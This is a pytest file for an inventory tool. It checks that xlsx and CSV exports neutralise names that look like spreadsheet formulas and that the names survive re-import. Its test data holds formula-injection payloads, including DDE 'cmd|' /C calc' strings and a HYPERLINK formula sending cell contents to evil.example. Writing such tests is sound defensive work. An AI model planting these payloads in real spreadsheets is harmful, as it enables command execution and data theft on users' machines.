"""Names that look like spreadsheet formulas are stored as text and exported as text: no
exported cell is a live formula, and export followed by import gives the names back."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest

from produktlyft.inventory.services.export import export_inventory, load_inventory
from produktlyft.inventory.services.imports import import_files
from produktlyft.kernel.context import ServiceContext

HOSTILE = {
    "s-cmd": "=cmd|' /C calc'!A0",
    "s-link": '=HYPERLINK("http://evil.example/?q="&A1,"Klicka")',
    "s-plus": "+SUM(1+1)*cmd|' /C calc'!A0",
    "s-minus": "-2+3+cmd|' /C calc'!A0",
    "s-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "s-tab": "\t=1+1",
    "s-cr": "\r=1+1",
    "s-quoted": "'=already quoted",
    "s-plain": "Ekonomisystem",
}


@pytest.fixture
def hostile(ctx: ServiceContext, tmp_path: Path) -> ServiceContext:
    document = {
        "systems": [
            {
                "id": key,
                "name": name,
                "vendor": "=1+1",
                "tags": ["@tag", "ok"],
                "properties": {"Anteckning": "+46 8 123 45"},
            }
            for key, name in HOSTILE.items()
        ]
    }
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    import_files(ctx, [path])
    return ctx


def test_xlsx_export_has_no_formulas(hostile: ServiceContext, tmp_path: Path) -> None:
    export_inventory(hostile, "xlsx", tmp_path / "out.xlsx")
    with zipfile.ZipFile(tmp_path / "out.xlsx") as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = "".join(archive.read(name).decode("utf-8") for name in sheets)
    assert sheets
    assert not re.search(r"<f[ >]", xml), "an exported cell is a formula"
    assert "cmd|" in xml  # the names are there, as text


def test_csv_export_neutralises_formula_cells(hostile: ServiceContext, tmp_path: Path) -> None:
    export_inventory(hostile, "csv", tmp_path / "out")
    text = (tmp_path / "out/systems.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], dangerous
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["s-cmd"] == "'=cmd|' /C calc'!A0"
    assert names["s-at"].startswith("'@")
    assert names["s-plain"] == "Ekonomisystem"


@pytest.mark.parametrize("name", ["out.xlsx", "out.zip", "out-folder"])
def test_export_then_import_gives_the_names_back(
    hostile: ServiceContext, tmp_path: Path, name: str, sqlite_database
) -> None:  # type: ignore[no-untyped-def]
    from tests.conftest import make_context

    fmt = "xlsx" if name.endswith(".xlsx") else "csv"
    export_inventory(hostile, fmt, tmp_path / name)
    assert import_files(hostile, [tmp_path / name]).changed == 0
    fresh = make_context(sqlite_database)
    import_files(fresh, [tmp_path / name])
    systems = {s.id: s for s in load_inventory(fresh).systems}
    assert {key: s.name for key, s in systems.items()} == HOSTILE
    assert systems["s-cmd"].vendor == "=1+1"
    assert systems["s-cmd"].tags == ["@tag", "ok"]
    assert systems["s-cmd"].properties == {"Anteckning": "+46 8 123 45"}
